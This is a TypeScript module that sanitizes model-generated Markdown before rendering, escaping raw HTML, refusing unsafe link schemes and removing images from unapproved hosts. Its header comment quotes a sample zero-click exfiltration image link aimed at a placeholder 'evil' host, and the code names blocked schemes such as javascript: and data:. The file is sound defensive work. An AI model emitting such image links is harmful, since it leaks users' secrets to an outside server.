/**
 * Markdown sink sanitizer: model output that a Markdown renderer will turn into HTML. One linear,
 * left-to-right scan (outside column-0 fenced code blocks) that
 * - escapes every `<` that could open raw HTML (`<tag`, `</`, `<!`, `<?`), keeping only autolinks with an
 *   allowed scheme, so no script, event handler or `style` reaches a renderer that passes HTML through;
 * - checks every inline destination `](...)` and every definition `]: url` on the string the renderer
 *   will use (backslash escapes and character references decoded), refusing `javascript:`, `data:`,
 *   `vbscript:` and any scheme not allowed;
 * - removes images (zero-click exfiltration: `![x](https://evil/?q=<secret>)`) unless their host is in
 *   `imageHosts`, keeping the alt text.
 * It over-approximates where renderers differ: every `](` is checked even without a matching `[`, a link
 * nested in an image opener is treated as an image, and inline code is not exempt (so `<` inside
 * backticks shows as `&lt;` in some renderers). The result is re-scanned until nothing changes.
 */

import type { SinkStats } from './html';
import { checkUrl, decodeEntities } from './url';

/** Options of the Markdown sink. */
export interface MarkdownSinkOptions {
  /** Link schemes kept (default `http`, `https`, `mailto`; relative links are kept). */
  linkSchemes?: readonly string[];
  /** Hosts images may load from (default none: every image is replaced by its alt text). */
  imageHosts?: readonly string[];
}

const PUNCT = /[!-/:-@[-`{-~]/;
const MAX_PASSES = 4;

/**
 * Sanitize `markdown` for a Markdown renderer.
 * @internal
 */
export function sanitizeMarkdown(
  markdown: string,
  options: MarkdownSinkOptions = {},
): { text: string; stats: SinkStats } {
  const linkSchemes = new Set((options.linkSchemes ?? ['http', 'https', 'mailto']).map((s) => s.toLowerCase()));
  const imageHosts = (options.imageHosts ?? []).map((h) => h.toLowerCase());
  const stats: SinkStats = { elements: 0, tags: 0, attributes: 0, links: 0, images: 0 };
  let text = markdown;
  for (let pass = 0; pass < MAX_PASSES; pass++) {
    const edits = scan(text, linkSchemes, imageHosts, stats);
    if (edits.length === 0) return { text, stats };
    text = apply(text, edits);
  }
  // Still changing after MAX_PASSES (crafted input): neutralize every bracket and tag opener.
  text = text.replace(/[[\]]/g, (c) => `\\${c}`).replace(/</g, '&lt;');
  return { text, stats };
}

interface Edit {
  start: number;
  end: number;
  text: string;
}

interface Opener {
  at: number;
  image: boolean;
}

function apply(s: string, edits: Edit[]): string {
  edits.sort((a, b) => a.start - b.start);
  let out = '';
  let last = 0;
  for (const e of edits) {
    if (e.start < last) continue; // overlapping edit (cannot happen by construction): keep the first
    out += s.slice(last, e.start) + e.text;
    last = e.end;
  }
  return out + s.slice(last);
}

/** Offsets [start, end) of column-0 fenced code blocks (```` ``` ```` or `~~~`, closed or running to the end). */
function fences(s: string): [number, number][] {
  const out: [number, number][] = [];
  const re = /^(`{3,}|~{3,})([^\n]*)$/gm;
  for (let m = re.exec(s); m !== null; m = re.exec(s)) {
    const fence = m[1] as string;
    if (fence[0] === '`' && (m[2] as string).includes('`')) continue; // not a fence (CommonMark)
    const close = new RegExp(`^ {0,3}${fence[0] === '`' ? '`' : '~'}{${fence.length},}[ \\t]*$`, 'gm');
    close.lastIndex = m.index + m[0].length;
    const c = close.exec(s);
    const end = c ? c.index + c[0].length : s.length;
    out.push([m.index, end]);
    re.lastIndex = Math.max(end, re.lastIndex);
  }
  return out;
}

/** Definitions `[label]: url` (for image references), label normalized as CommonMark does. */
function definitions(s: string): Map<string, string> {
  const defs = new Map<string, string>();
  const re = /^[ \t>]{0,16}\[((?:[^\]\\\n]|\\.){1,999})\]:[ \t]*\n?[ \t]*<?([^\s<>]{1,4096})/gm;
  for (let m = re.exec(s); m !== null; m = re.exec(s)) {
    const label = normalizeLabel(m[1] as string);
    if (!defs.has(label)) defs.set(label, m[2] as string);
  }
  return defs;
}

const normalizeLabel = (l: string) => l.trim().replace(/\s+/g, ' ').toLowerCase();
const unescapeMd = (u: string) => decodeEntities(u.replace(/\\([!-/:-@[-`{-~])/g, '$1'));

/** The destination token at `i` (after `(` or `]:`): [start, end, raw url] or undefined. */
function destination(s: string, i: number): [number, number, string] | undefined {
  const ws = /[ \t]*\n?[ \t]*/y;
  ws.lastIndex = i;
  ws.exec(s);
  let j = ws.lastIndex;
  const start = j;
  if (s[j] === '<') {
    for (j++; j < s.length; j++) {
      const c = s[j] as string;
      if (c === '\\') j++;
      else if (c === '>') return [start, j + 1, s.slice(start + 1, j)];
      else if (c === '<' || c === '\n') break;
    }
    return [start, j, s.slice(start + 1, j)]; // not a pointy destination: checked anyway
  }
  let depth = 0;
  for (; j < s.length; j++) {
    const c = s[j] as string;
    if (c === '\\' && PUNCT.test(s[j + 1] ?? '')) j++;
    else if (c === '(') depth++;
    else if (c === ')') {
      if (depth === 0) break;
      depth--;
    } else if (c <= ' ') break;
  }
  return j > start ? [start, j, s.slice(start, j)] : undefined;
}

/** Offset of the `)` closing an inline link whose destination ends at `i` (optional title), or -1. */
function closeParen(s: string, i: number): number {
  const m =
    /[ \t]*\n?[ \t]*(?:"(?:[^"\\]|\\.){0,4096}"|'(?:[^'\\]|\\.){0,4096}'|\((?:[^()\\]|\\.){0,4096}\))?[ \t]*\n?[ \t]*\)/y;
  m.lastIndex = i;
  return m.exec(s) ? m.lastIndex - 1 : -1;
}

function scan(s: string, linkSchemes: ReadonlySet<string>, imageHosts: readonly string[], stats: SinkStats): Edit[] {
  const edits: Edit[] = [];
  const code = fences(s);
  const defs = imageHosts.length > 0 ? definitions(s) : new Map<string, string>();
  const imageOk = (raw: string) =>
    imageHosts.length > 0 &&
    checkUrl(unescapeMd(raw), new Set(['https', 'http']), { hosts: imageHosts, relative: false }).ok;
  const stack: Opener[] = [];
  let images = 0; // image openers on the stack
  let f = 0;
  let escaped = -1; // offset of the last backslash-escaped character
  const n = s.length;
  for (let i = 0; i < n; i++) {
    while (code[f] && (code[f] as [number, number])[1] <= i) f++;
    const fence = code[f];
    if (fence && i >= fence[0]) {
      i = fence[1] - 1;
      f++;
      continue;
    }
    const c = s[i] as string;
    if (c === '\n' && stack.length > 0 && /[ \t]*\n/y.test(s.slice(i + 1, i + 64))) {
      // A blank line ends the paragraph: brackets never pair across it.
      stack.length = 0;
      images = 0;
      continue;
    }
    if (c === '\\' && PUNCT.test(s[i + 1] ?? '')) {
      escaped = ++i;
      continue;
    }
    if (c === '<') {
      const auto =
        /<([A-Za-z][A-Za-z0-9+.-]{1,31}):([^\s<>]{0,4096})>|<[\w.!#$%&'*+/=?^`{|}~-]{1,64}@[A-Za-z0-9.-]{1,253}>/y;
      auto.lastIndex = i;
      const m = auto.exec(s);
      if (m && (m[1] === undefined || checkUrl(decodeEntities(`${m[1]}:${m[2]}`), linkSchemes).ok)) {
        i = auto.lastIndex - 1;
        continue;
      }
      if (m || /[A-Za-z/!?]/.test(s[i + 1] ?? '')) {
        edits.push({ start: i, end: i + 1, text: '&lt;' });
        if (m) stats.links++;
        else stats.tags++;
      }
      continue;
    }
    if (c === '[') {
      const image = s[i - 1] === '!' && escaped !== i - 1;
      stack.push({ at: image ? i - 1 : i, image });
      if (image) images++;
      continue;
    }
    if (c !== ']') continue;
    const opener = stack.pop();
    if (opener?.image) images--;
    // An image opener further out may be what a renderer pairs this bracket with: treat as an image.
    const image = opener ? opener.image || images > 0 : true;
    const next = s[i + 1];
    if (next === '(' || next === ':') {
      const d = destination(s, i + 2);
      if (!d) continue;
      const [ds, de, raw] = d;
      const url = unescapeMd(raw);
      const linkOk = checkUrl(url, linkSchemes).ok;
      if (next === ':') {
        if (!linkOk) {
          edits.push({ start: ds, end: de, text: '#' });
          stats.links++;
        }
        i = de - 1;
        continue;
      }
      if (image && !imageOk(raw)) {
        stats.images++;
        const close = closeParen(s, de);
        if (opener?.image && close >= 0 && (!code[f] || close < (code[f] as [number, number])[0])) {
          edits.push({ start: opener.at, end: opener.at + 2, text: '' }, { start: i, end: close + 1, text: '' });
          i = close;
        } else {
          edits.push({ start: ds, end: de, text: '' });
          i = de - 1;
        }
        continue;
      }
      if (!linkOk) {
        stats.links++;
        edits.push({ start: ds, end: de, text: '' });
      }
      i = de - 1;
      continue;
    }
    if (opener?.image) {
      // Reference image: `![alt][label]`, `![alt][]` or `![alt]`. Kept only with an allowed definition.
      const ref = /\[((?:[^\]\\\n]|\\.){0,999})\]/y;
      ref.lastIndex = i + 1;
      const m = ref.exec(s);
      const label = normalizeLabel(m && m[1] !== '' ? (m[1] as string) : s.slice(opener.at + 2, i));
      const target = defs.get(label);
      if (target === undefined || !imageOk(target)) {
        edits.push({ start: opener.at, end: opener.at + 1, text: '' });
        stats.images++;
      }
    }
  }
  return edits;
}
